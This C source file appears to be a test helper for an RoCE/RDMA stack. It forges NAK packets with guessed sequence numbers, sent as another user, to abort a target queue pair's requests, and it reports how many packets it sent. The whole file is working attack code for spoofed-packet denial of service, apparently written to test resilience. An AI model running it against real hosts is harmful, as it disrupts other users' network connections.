/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* forge_naks.c - another user of this host ends the requests of a queue pair by NAKs with
 * PSNs that it guesses, one in STEP of all.
 *
 * usage: forge_naks ITS-ADDRESS PEER-ADDRESS QPN STEP ROUNDS
 *
 * Ends after so many rounds through all PSNs, or with its parent; prints how much it did.
 */
#include <arpa/inet.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "forger.h"
#include "rocin/icrc.h"
#include "rocin/opcode.h"
#include "rocin/wire.h"

static struct rn_gid gid_of(const char *text)
{
	struct rn_gid gid = { .raw = { [10] = 0xff, 0xff } };

	if (inet_pton(AF_INET, text, gid.raw + 12) != 1)
		exit(2);
	return gid;
}

int main(int argc, char **argv)
{
	const struct rn_aeth aeth = { .syndrome = rn_aeth_syndrome(RN_AETH_NAK,
								   RN_NAK_INVALID_REQ) };
	struct rn_bth bth = { .opcode = RN_RC_ACK, .pkey = 0xffff };
	struct forgery f = { .at = 9, .bytes = 3, .bits = 24 };
	struct forger_work work;
	unsigned rounds;

	if (argc != 6)
		return 2;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	f.dst = gid_of(argv[1]);
	f.src = gid_of(argv[2]);
	bth.dest_qpn = (uint32_t)strtoul(argv[3], NULL, 0);
	f.step = (uint32_t)strtoul(argv[4], NULL, 0);
	rounds = (unsigned)strtoul(argv[5], NULL, 0);
	f.len = (size_t)(rn_aeth_emit(rn_bth_emit(f.pkt, &bth), &aeth) - f.pkt) +
		RN_ICRC_LEN;
	if (forger_start()) {
		printf("becoming another user needs root\n");
		return 77;
	}
	/* A round of the forger is 2^24 packets, of which STEP go once through all PSNs.
	 */
	forger_begin(&f);
	puts("attacking");
	fflush(stdout);
	while (forger_packets() < ((uint64_t)rounds << f.bits) / f.step)
		usleep(10000);
	work = forger_end();
	printf("%llu packets in %llu ms\n", (unsigned long long)work.packets,
	       (unsigned long long)work.ns / 1000000);
	forger_stop();
	return 0;
}
